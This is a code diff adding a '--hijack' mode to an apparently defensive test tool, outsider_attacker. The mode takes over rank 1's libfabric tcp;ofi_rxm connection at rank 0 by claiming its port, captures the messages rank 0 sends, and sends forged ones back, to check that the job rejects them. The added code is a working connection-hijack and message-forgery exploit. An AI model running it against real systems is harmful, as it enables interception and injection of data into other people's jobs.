@@ -15,6 +15,8 @@
 //
 // Usage: outsider_attacker <ip> <port> <secret> <target> <handle>
 //   (addresses and handle in decimal, as the job wrote them)
+//        outsider_attacker --hijack <ip> <rank 0's port> <rank 1's port>
+//   (takes rank 1's connection at rank 0 over; see namespace hijack)
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <rdma/fabric.h>
@@ -25,6 +27,7 @@
 #include <rdma/fi_rma.h>
 
 #include <sys/uio.h>
+#include <unistd.h>
 
 #include <chrono>
 #include <cstdint>
@@ -223,7 +226,231 @@ std::vector<char> words(std::initializer_list<uint64_t> v) {
 
 }  // namespace
 
+// ---- hijack: take over rank 1's connection at rank 0 ------------------------
+//
+// tcp;ofi_rxm names the peer of an incoming connection from its source IP
+// and the listening port given in the connection request's data (rxm.h,
+// union rxm_cm_data::connect), and replaces a live connection from that
+// peer with the new one. This mode connects a plain msg endpoint to rank
+// 0's port claiming rank 1's port, reads what rank 0 then sends to "rank
+// 1" (rxm packets: a 32-byte control header, a 32-byte operation header
+// whose `data` is the CQ data, then the payload) and sends rank 0 forged
+// messages built from the captured ones: the header's tag one higher (the
+// tag rank 0 receives from rank 1 next), the payload 'F' bytes, the rest as
+// captured (the job token and, with authentication, a trailer made for the
+// other direction). The job must never accept one (outsider_job checks
+// every byte it receives).
+namespace hijack {
+
+// rxm's connection request data (libfabric 1.17, rxm.h).
+struct cm_connect {
+  uint8_t version, endianness, ctrl_version, op_version;
+  uint16_t port;
+  uint8_t flow_ctrl, padding;
+  uint32_t eager_limit, rx_size;
+  uint64_t client_conn_id;
+};
+struct cm_accept {
+  uint64_t server_conn_id;
+  uint32_t rx_size;
+  uint8_t flow_ctrl, pad[3];
+};
+// ofi_proto.h: control header and operation header of each rxm packet.
+struct ctrl_hdr {
+  uint8_t version, type;
+  uint16_t seg_size;
+  uint32_t seg_no;
+  uint64_t conn_id, msg_id, ctrl_data;
+};
+struct op_hdr {
+  uint8_t version, rx_index, op, op_data;
+  uint32_t flags;
+  uint64_t size, data, tag;
+};
+constexpr size_t pkt_hdr = sizeof(ctrl_hdr) + sizeof(op_hdr);
+
+struct conn {
+  fid_fabric* fabric = nullptr;
+  fid_domain* domain = nullptr;
+  fid_eq* eq = nullptr;
+  fid_cq* cq = nullptr;
+  fid_ep* ep = nullptr;
+  fi_info* info = nullptr;
+  uint64_t server_conn_id = 0;
+};
+
+// One connection attempt with these versions; true once connected.
+bool try_connect(conn& c, const char* ip, int port, int claimed, uint8_t ctrl_v, uint8_t op_v,
+                 uint32_t eager) {
+  fi_info* hints = fi_allocinfo();
+  hints->ep_attr->type = FI_EP_MSG;
+  hints->caps = FI_MSG;
+  hints->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
+  hints->fabric_attr->prov_name = strdup("tcp");
+  char service[16];
+  snprintf(service, sizeof service, "%d", port);
+  if (fi_getinfo(FI_VERSION(1, 14), ip, service, 0, hints, &c.info)) die("fi_getinfo(msg)", -FI_ENODATA);
+  fi_freeinfo(hints);
+  check(fi_fabric(c.info->fabric_attr, &c.fabric, nullptr), "fi_fabric");
+  fi_eq_attr eq_attr{};
+  eq_attr.wait_obj = FI_WAIT_UNSPEC;
+  check(fi_eq_open(c.fabric, &eq_attr, &c.eq, nullptr), "fi_eq_open");
+  check(fi_domain(c.fabric, c.info, &c.domain, nullptr), "fi_domain");
+  fi_cq_attr cq_attr{};
+  cq_attr.format = FI_CQ_FORMAT_DATA;
+  check(fi_cq_open(c.domain, &cq_attr, &c.cq, nullptr), "fi_cq_open");
+  check(fi_endpoint(c.domain, c.info, &c.ep, nullptr), "fi_endpoint");
+  check(fi_ep_bind(c.ep, &c.eq->fid, 0), "fi_ep_bind(eq)");
+  check(fi_ep_bind(c.ep, &c.cq->fid, FI_TRANSMIT | FI_RECV), "fi_ep_bind(cq)");
+  check(fi_enable(c.ep), "fi_enable");
+  cm_connect cm{};
+  cm.version = 1;
+  cm.endianness = 2;  // little-endian
+  cm.ctrl_version = ctrl_v;
+  cm.op_version = op_v;
+  cm.port = static_cast<uint16_t>(claimed);
+  cm.flow_ctrl = 2;  // peer's flow control off
+  cm.eager_limit = eager;
+  cm.rx_size = 1024;
+  cm.client_conn_id = static_cast<uint64_t>(getpid()) << 32;
+  check(fi_connect(c.ep, c.info->dest_addr, &cm, sizeof cm), "fi_connect");
+  const double end = now_s() + 3;
+  while (now_s() < end) {
+    alignas(8) char buf[sizeof(fi_eq_cm_entry) + 64];
+    uint32_t event = 0;
+    ssize_t n = fi_eq_read(c.eq, &event, buf, sizeof buf, 0);
+    if (n == -FI_EAVAIL) {
+      fi_eq_err_entry err{};
+      fi_eq_readerr(c.eq, &err, 0);
+      return false;
+    }
+    if (n > 0 && event == FI_CONNECTED) {
+      if (static_cast<size_t>(n) >= sizeof(fi_eq_cm_entry) + sizeof(cm_accept)) {
+        cm_accept acc;
+        memcpy(&acc, buf + sizeof(fi_eq_cm_entry), sizeof acc);
+        c.server_conn_id = acc.server_conn_id;
+      }
+      return true;
+    }
+  }
+  return false;
+}
+
+void close(conn& c) {
+  for (fid* f : {c.ep ? &c.ep->fid : nullptr, c.cq ? &c.cq->fid : nullptr,
+                 c.domain ? &c.domain->fid : nullptr, c.eq ? &c.eq->fid : nullptr,
+                 c.fabric ? &c.fabric->fid : nullptr})
+    if (f) fi_close(f);
+  if (c.info) fi_freeinfo(c.info);
+  c = conn{};
+}
+
+int run(const char* ip, int port, int claimed) {
+  // rxm refuses a request whose versions or eager limit differ from its
+  // own: find them, then connect again each time rank 1 takes its
+  // connection back (it reconnects when rank 0 closes it).
+  conn c;
+  uint8_t ctrl_v = 0, op_v = 0;
+  uint32_t eager = 0;
+  for (uint32_t e : {16384u, 16320u, 8192u, 65536u})
+    for (uint8_t cv : {4, 3, 5})
+      for (uint8_t ov : {3, 2, 4}) {
+        if (eager) break;
+        if (try_connect(c, ip, port, claimed, cv, ov, e)) {
+          ctrl_v = cv, op_v = ov, eager = e;
+          printf("attacker: connected to rank 0 claiming port %d (rxm versions %u/%u, eager "
+                 "limit %u)\n", claimed, cv, ov, e);
+        } else {
+          close(c);
+        }
+      }
+  if (!eager) {
+    printf("attacker: rank 0 accepted no connection claiming port %d\n", claimed);
+    return 0;
+  }
+  constexpr int nbufs = 32;
+  constexpr size_t bufsize = size_t(1) << 16;
+  std::vector<std::vector<char>> bufs(nbufs, std::vector<char>(bufsize));
+  long captured = 0, forged = 0, connections = 1;
+  const double end = now_s() + 20;
+  std::vector<char> out;
+  while (now_s() < end && forged < 8) {
+    if (!c.ep) {
+      if (!try_connect(c, ip, port, claimed, ctrl_v, op_v, eager)) {
+        close(c);
+        continue;
+      }
+      ++connections;
+    }
+    for (int i = 0; i < nbufs; ++i)
+      fi_recv(c.ep, bufs[static_cast<size_t>(i)].data(), bufsize, nullptr, 0,
+              reinterpret_cast<void*>(static_cast<uintptr_t>(i + 1)));
+    // Receive what rank 0 now sends to "rank 1", until it closes.
+    while (now_s() < end && forged < 8) {
+      fi_cq_data_entry e;
+      ssize_t n = fi_cq_read(c.cq, &e, 1);
+      if (n == -FI_EAVAIL) {
+        fi_cq_err_entry err{};
+        fi_cq_readerr(c.cq, &err, 0);
+        continue;
+      }
+      if (n != 1) {
+        uint32_t event;
+        alignas(8) char ebuf[256];
+        ssize_t en = fi_eq_read(c.eq, &event, ebuf, sizeof ebuf, 0);
+        if (en == -FI_EAVAIL) {
+          fi_eq_err_entry err{};
+          fi_eq_readerr(c.eq, &err, 0);
+          break;
+        }
+        if (en > 0 && event == FI_SHUTDOWN) break;
+        continue;
+      }
+      if (!(e.flags & FI_RECV)) continue;
+      const size_t i = reinterpret_cast<uintptr_t>(e.op_context) - 1;
+      std::vector<char>& b = bufs[i];
+      ctrl_hdr ch;
+      op_hdr oh;
+      memcpy(&ch, b.data(), sizeof ch);
+      memcpy(&oh, b.data() + sizeof ch, sizeof oh);
+      if (e.len >= pkt_hdr) ++captured;
+      if (e.len >= pkt_hdr && oh.op == 0 && oh.size + pkt_hdr <= e.len && oh.size >= 64) {
+        const uint32_t header = static_cast<uint32_t>(oh.data);
+        printf("attacker: captured a %llu-byte message for rank 1, CQ data %#llx (job token "
+               "%#x, tag %u)\n", static_cast<unsigned long long>(oh.size),
+               static_cast<unsigned long long>(oh.data), static_cast<unsigned>(oh.data >> 32),
+               header & 0xffffu);
+        // Forge "rank 1's" message: next tag, 'F' bytes, the rest as captured.
+        out.assign(b.data(), b.data() + pkt_hdr + oh.size);
+        ch.conn_id = c.server_conn_id;
+        oh.data = (oh.data & ~uint64_t{0xffff}) | ((header + 1) & 0xffffu);
+        memcpy(out.data(), &ch, sizeof ch);
+        memcpy(out.data() + sizeof ch, &oh, sizeof oh);
+        memset(out.data() + pkt_hdr, 'F', oh.size - 32);
+        ssize_t rc;
+        const double until = now_s() + 2;
+        while ((rc = fi_send(c.ep, out.data(), out.size(), nullptr, 0, nullptr)) == -FI_EAGAIN &&
+               now_s() < until) {
+          fi_cq_data_entry x;
+          fi_cq_read(c.cq, &x, 1);
+        }
+        if (rc == 0) ++forged;
+      }
+      fi_recv(c.ep, b.data(), bufsize, nullptr, 0, e.op_context);
+    }
+    close(c);
+  }
+  printf("attacker: hijack: %ld connections, %ld packets captured, %ld forged messages sent "
+         "to rank 0\n", connections, captured, forged);
+  close(c);
+  return 0;
+}
+
+}  // namespace hijack
+
 int main(int argc, char** argv) {
+  if (argc == 5 && strcmp(argv[1], "--hijack") == 0)
+    return hijack::run(argv[2], atoi(argv[3]), atoi(argv[4]));
   if (argc != 6) {
     fprintf(stderr, "usage: outsider_attacker <ip> <port> <secret> <target> <handle>\n");
     return 2;
